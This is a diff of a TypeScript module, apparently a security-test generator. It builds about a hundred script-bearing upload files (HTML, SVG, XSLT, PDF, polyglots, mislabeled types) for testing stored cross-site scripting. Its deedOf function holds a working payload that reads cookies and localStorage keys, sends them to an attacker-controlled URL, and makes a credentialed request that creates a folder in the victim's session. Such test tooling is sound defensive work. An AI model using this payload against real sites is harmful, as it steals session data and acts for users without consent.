@@ -1,23 +1,22 @@
-/** A file that would run, if it could. */
+/** A file that tries to run script. */
 export interface ActiveFile {
   readonly name: string;
-  /** The media type that its uploader claims. */
+  /** The media type claimed by the uploader. */
   readonly type: string;
   readonly content: string | Uint8Array;
 }
 
-/** Where it tells that it has run, and what it goes for. */
+/** The URLs that the scripts use. */
 export interface Aims {
-  /** An address of the attacker's. */
+  /** The attacker's server, to which scripts report that they ran. */
   readonly told: string;
-  /** The site that it is hosted by. */
+  /** The attacked instance. */
   readonly site: string;
 }
 
 /**
- * A hundred files that run script in one browser or another, or get another program to: pages,
- * drawings, XML with style sheets, PDFs, what claims to be something else, and what is two things
- * at once.
+ * A hundred files that run script in some browser or other program: HTML, SVG, XML with style
+ * sheets, PDFs, files with a wrong type or extension, and polyglots.
  */
 export function activeFiles(aims: Aims): ActiveFile[] {
   const script = deedOf(aims);
@@ -33,7 +32,7 @@ export function activeFiles(aims: Aims): ActiveFile[] {
       content,
     })),
     ...documentsOf(script),
-    // The name says one thing, or nothing, and the content or the uploader another.
+    // The name, the content and the claimed type contradict each other.
     ...[
       "htm",
       "xhtml",
@@ -114,7 +113,7 @@ export function activeFiles(aims: Aims): ActiveFile[] {
   return files;
 }
 
-/** Says that it ran, with what it can read, and makes a folder by the session of who looks. */
+/** A script that reports what it can read, and creates a folder with the visitor's session. */
 export const deedOf = ({ told, site }: Aims): string =>
   `(function(){var c="";try{c=document.cookie}catch(e){}try{c+=Object.keys(localStorage)}catch(e){}fetch("${told}/ran?from="+encodeURIComponent(self.origin+" "+location.href+" "+c));fetch("${site}/api/folders",{method:"POST",credentials:"include",headers:{"Content-Type":"application/json"},body:'{"folder":"taken-over"}'})})()`;
 
